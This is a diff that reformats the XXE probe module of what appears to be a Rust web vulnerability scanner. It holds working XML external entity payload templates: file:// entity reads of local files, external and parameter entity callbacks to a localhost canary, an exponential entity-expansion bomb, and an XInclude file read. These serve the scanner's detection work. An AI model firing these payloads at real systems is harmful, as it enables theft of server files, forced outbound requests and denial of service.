@@ -29,7 +29,21 @@ const PROBE: Probe = Probe { id: "xxe", hostile: true, lane: Lane::Shared, plan 
 macro_rules! eleven {
     ($name:literal, $of:literal) => {
         concat!(
-            "<!ENTITY ", $name, " \"", $of, $of, $of, $of, $of, $of, $of, $of, $of, $of, $of, "\">"
+            "<!ENTITY ",
+            $name,
+            " \"",
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            $of,
+            "\">"
         )
     };
 }
@@ -37,21 +51,46 @@ macro_rules! eleven {
 /// The first goes to every text, the others where XML is meant.
 const FORMS: &[Form] = &[
     Form::new("file", Quick, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"file://«O»\">]>«D»", outside),
-    Form::new("address", Standard, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\">]>«D»", visited),
-    Form::new("declared address", Standard, "<!DOCTYPE «d» SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"><«d»>a</«d»>", visited),
-    Form::new("parameter", Standard, "<!DOCTYPE «d» [<!ENTITY % e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"> %e;]><«d»>a</«d»>", visited),
+    Form::new(
+        "address",
+        Standard,
+        "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\">]>«D»",
+        visited,
+    ),
+    Form::new(
+        "declared address",
+        Standard,
+        "<!DOCTYPE «d» SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"><«d»>a</«d»>",
+        visited,
+    ),
+    Form::new(
+        "parameter",
+        Standard,
+        "<!DOCTYPE «d» [<!ENTITY % e SYSTEM \"http://content.proofmark.localhost:8080/seen/«L»«R»\"> %e;]><«d»>a</«d»>",
+        visited,
+    ),
     Form::new(
         "expansion",
         Standard,
         concat!(
             "<!DOCTYPE «d» [<!ENTITY a \"«L»\">",
-            eleven!("b", "&a;"), eleven!("c", "&b;"), eleven!("f", "&c;"), eleven!("g", "&f;"),
-            eleven!("h", "&g;"), eleven!("e", "&h;"), "]>«D»"
+            eleven!("b", "&a;"),
+            eleven!("c", "&b;"),
+            eleven!("f", "&c;"),
+            eleven!("g", "&f;"),
+            eleven!("h", "&g;"),
+            eleven!("e", "&h;"),
+            "]>«D»"
         ),
         expanded,
     ),
     Form::new("path", Deep, "<!DOCTYPE «d» [<!ENTITY e SYSTEM \"«O»\">]>«D»", outside),
-    Form::new("inclusion", Deep, "<«d» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://«O»\"/></«d»>", outside),
+    Form::new(
+        "inclusion",
+        Deep,
+        "<«d» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file://«O»\"/></«d»>",
+        outside,
+    ),
 ];
 
 fn outside(_: &Nonce<'_>) -> Option<Oracle> {
@@ -107,7 +146,9 @@ fn judge(evidence: &Evidence) -> Vec<Finding> {
 
 fn hole(evidence: &Evidence, x: &Exchange, proof: Proof) -> Finding {
     let says = match &proof {
-        Proof::PlantedContent { .. } => "the parser put a file of the machine in place of an entity",
+        Proof::PlantedContent { .. } => {
+            "the parser put a file of the machine in place of an entity"
+        }
         Proof::Callback { .. } => "the parser visited the address of an entity",
         Proof::Computed { .. }
         | Proof::SideEffect { .. }
